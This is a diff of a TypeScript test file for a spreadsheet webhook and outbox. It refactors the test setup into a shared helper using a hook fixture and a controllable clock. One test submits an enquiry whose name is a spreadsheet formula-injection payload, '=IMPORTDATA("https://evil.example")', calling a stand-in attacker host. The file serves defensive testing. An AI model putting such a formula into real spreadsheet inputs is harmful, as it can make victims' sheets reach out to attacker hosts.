@@ -1,14 +1,12 @@
 /** The script of a sheet (deploy/sheet.gs) takes the calls of the real webhook, and no others. */
 import { createHmac } from 'node:crypto';
 import { readFileSync } from 'node:fs';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { createContext, runInContext } from 'node:vm';
-import { afterEach, expect, test, vi } from 'vitest';
+import { afterEach, expect, test } from 'vitest';
 import { allLeads, said, testConfig, testLog, testStore } from '../store/testing/fixtures.ts';
 import { startOutbox } from './outbox.ts';
-import { createClock, stopAll, stopLater } from './testing/fixtures.ts';
+import { createClock, eventually, stopAll, stopLater, testHook } from './testing/fixtures.ts';
 
 const SECRET = 'sixteen characters or more';
 afterEach(stopAll);
@@ -49,37 +47,31 @@ const startSheet = async (status: number) => {
   const rows: string[][] = [];
   const doPost = scriptWith(rows);
   const events: Event[] = [];
-  const server = createServer((request, response) => {
-    let contents = '';
-    request.on('data', (piece: Buffer) => (contents += piece.toString()));
-    request.on('end', () => {
-      const parameter = Object.fromEntries(new URL(request.url ?? '', 'http://sheet').searchParams);
-      const event = { parameter, postData: { contents } };
-      events.push(event);
-      response.writeHead(status, { location: 'http://127.0.0.1:9/' }).end(doPost(event));
-    });
+  const { origin } = await testHook(({ url, body }) => {
+    const parameter = Object.fromEntries(new URL(url, 'http://sheet').searchParams);
+    const event = { parameter, postData: { contents: body } };
+    events.push(event);
+    return { status, location: 'http://127.0.0.1:9/', body: doPost(event) };
   });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  stopLater({
-    stop: async () => {
-      server.closeAllConnections();
-      server.close();
-    },
-  });
-  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/macros/s/1/exec?sheet=1`;
-  return { rows, doPost, events, url };
+  const env = {
+    WEBHOOK_URL: `${origin}/macros/s/1/exec?sheet=1`,
+    WEBHOOK_SECRET: SECRET,
+    WEBHOOK_SIGNATURE: 'address',
+  };
+  const config = testConfig(env);
+  const store = await testStore(config);
+  const clock = createClock();
+  stopLater(startOutbox({ store, config, log: testLog(), pollEvery: 20, now: clock.now }));
+  return { rows, doPost, events, store, clock };
 };
-
-const eventually = (check: () => unknown): Promise<unknown> => vi.waitFor(check, { timeout: 60_000, interval: 20 });
 
 test.each([200, 302])(
   'a sheet that answers %i gets a row for each enquiry, and loses it when it is withdrawn',
   async (status) => {
-    const { rows, doPost, events, url } = await startSheet(status);
-    const config = testConfig({ WEBHOOK_URL: url, WEBHOOK_SECRET: SECRET, WEBHOOK_SIGNATURE: 'address' });
-    const store = await testStore(config);
-    stopLater(startOutbox({ store, config, log: testLog(), pollEvery: 20 }));
-    const submitted = await store.submit(said({ name: '=IMPORTDATA("https://evil.example")', message: 'வணக்கம்' }));
+    const { rows, doPost, events, store, clock } = await startSheet(status);
+    const submitted = await store.submit(
+      said({ name: '=IMPORTDATA("https://evil.example")', message: 'வணக்கம்', receivedAt: clock.now() }),
+    );
     const receipt = submitted.result === 'key-reused' ? null : submitted.receipt;
     await eventually(() => expect(rows).toHaveLength(2));
     expect(rows[1]?.slice(1)).toEqual([
@@ -109,7 +101,7 @@ test.each([200, 302])(
     await eventually(async () =>
       expect(await store.db.selectFrom('outbox').select('state').execute()).toEqual([{ state: 'sent' }]),
     );
-    expect((await store.enquiries.act(receipt?.token ?? '', '3210', 'withdraw', Date.now())).result).toBe('ok');
+    expect((await store.enquiries.act(receipt?.token ?? '', '3210', 'withdraw', clock.now())).result).toBe('ok');
     await eventually(() => expect(rows[1]?.slice(3)).toEqual(['', 'WITHDRAWN', '', '', '', '']));
     expect(rows).toHaveLength(2);
     expect(events[1]?.postData.contents).not.toMatch(/meena|43210|IMPORT/i);
@@ -117,11 +109,7 @@ test.each([200, 302])(
 );
 
 test('a held enquiry has a row that says so, and the same row is plain once it is released', async () => {
-  const { rows, url } = await startSheet(200);
-  const config = testConfig({ WEBHOOK_URL: url, WEBHOOK_SECRET: SECRET, WEBHOOK_SIGNATURE: 'address' });
-  const store = await testStore(config);
-  const clock = createClock();
-  stopLater(startOutbox({ store, config, log: testLog(), pollEvery: 20, now: clock.now }));
+  const { rows, store, clock } = await startSheet(200);
   await store.submit(said({ state: 'held', reasons: ['flood'], receivedAt: clock.now() }));
   clock.pass(40_000);
   await eventually(() => expect(rows[1]?.[3]).toBe('HELD AS DOUBTFUL GST Registration'));
